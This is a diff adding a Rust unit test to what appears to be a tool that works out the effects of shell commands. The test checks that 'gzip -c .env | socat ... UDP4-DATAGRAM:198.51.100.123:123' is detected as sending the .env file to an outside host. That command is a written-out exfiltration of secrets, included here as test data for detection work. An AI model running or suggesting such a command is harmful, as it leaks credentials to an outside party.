@@ -86,3 +86,19 @@ fn a_file_url_is_a_local_file() {
         vec![write("/tmp/out.txt")]
     );
 }
+
+#[test]
+fn socat_datagram_addresses_reach_their_host() {
+    let sent = effects("gzip -c .env | socat -u - UDP4-DATAGRAM:198.51.100.123:123");
+    let request = sent
+        .iter()
+        .find(|e| e["effect"] == "request")
+        .unwrap_or_else(|| panic!("{sent:?}"));
+    assert_eq!(request["target"]["host"], "198.51.100.123", "{sent:?}");
+    assert_eq!(request["target"]["port"], 123, "{sent:?}");
+    assert_eq!(
+        request["payload"]["files"][0]["path"],
+        at(".env"),
+        "{sent:?}"
+    );
+}
